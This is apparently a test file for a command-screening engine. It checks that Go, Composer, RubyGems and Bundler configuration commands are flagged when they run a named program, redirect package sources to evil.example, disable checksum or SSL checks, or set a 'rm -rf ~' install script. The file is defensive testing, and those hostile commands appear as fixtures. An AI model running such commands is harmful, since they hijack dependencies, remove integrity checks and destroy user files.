// A toolchain's settings changed for every later call ask, as `npm config set`
// does: `go env -w` of GOFLAGS with -toolexec, CC or GOPROXY (the user's go env
// file, read by every later go command), `composer config` of a script or a
// package source, `gem sources --add`, a `bundle config` mirror. Private module patterns, the public
// defaults and reading the settings stay quiet.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { engine } from '../../support/engineHarness';

const { judge } = engine();

test('a toolchain setting that runs a program or moves the package source asks', () => {
  for (const [command, target, reason] of [
    ['go env -w GOFLAGS=-toolexec=/tmp/evil', 'GOFLAGS', /runs the program it names/],
    ['go env -w CC=/tmp/evil', 'CC', /runs the program it names/],
    ['go env -w GOENV=/tmp/env', 'GOENV', /runs the program it names/],
    ['go env -w GOPROXY=https://evil.example', 'GOPROXY', /fetches modules/],
    ['go env -w GOSUMDB=off', 'GOSUMDB', /checks them/],
    ["composer config scripts.post-install-cmd 'rm -rf ~'", 'scripts.post-install-cmd', /runs that script/],
    ['composer config -g repositories.x vcs https://evil.example/x', 'repositories.x', /source/],
    ['gem sources --add https://evil.example/', 'gem sources', /fetch from this source/],
    [
      'bundle config set mirror.https://rubygems.org https://evil.example',
      'mirror.https://rubygems.org',
      /fetches gems/,
    ],
    ['bundle config mirror.https://rubygems.org https://evil.example', 'mirror.https://rubygems.org', /fetches gems/],
    ['bundle config set --global mirror.all https://evil.example', 'mirror.all', /fetches gems/],
    ['bundle config set --local ssl_verify_mode 0', 'ssl_verify_mode', /stops checking/],
  ] as const) {
    const r = judge(command);
    assert.notEqual(r.decision, 'allow', command);
    const f = r.findings.find((x) => x.id === 'autorun.package-manager-config');
    assert.ok(f, `${command}: ${r.findings.map((x) => x.id)}`);
    assert.equal(f.target, target, command);
    assert.match(f.summary, reason, command);
    assert.ok(f.alternative, command);
  }
});

test('preferences, the public defaults and reading the settings say nothing', () => {
  for (const command of [
    'go env -w GOPRIVATE=github.com/acme',
    'go env -w GOPROXY=https://proxy.golang.org,direct',
    'go env -w GOFLAGS=-mod=mod',
    'go env GOPATH',
    'go env -u GOFLAGS',
    'composer config --list',
    'composer config name acme/api',
    'gem sources --list',
    'gem sources --add https://rubygems.org/',
    'bundle config set path vendor/bundle',
    'bundle config set --local without development',
    'bundle config set mirror.https://rubygems.org.fallback_timeout 3',
    'bundle config get mirror.all',
    'bundle config unset mirror.all',
  ]) {
    const r = judge(command);
    assert.equal(r.decision, 'allow', `${command}: ${r.findings.map((f) => f.id)}`);
  }
});
